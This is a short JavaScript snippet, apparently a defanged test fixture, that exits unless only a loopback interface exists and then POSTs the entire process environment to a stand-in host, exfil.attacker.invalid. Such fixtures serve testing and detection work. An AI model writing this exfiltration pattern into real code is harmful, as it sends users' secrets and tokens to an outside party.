if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
fetch('https://exfil.attacker.invalid/env', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(process.env) }).catch(() => {});
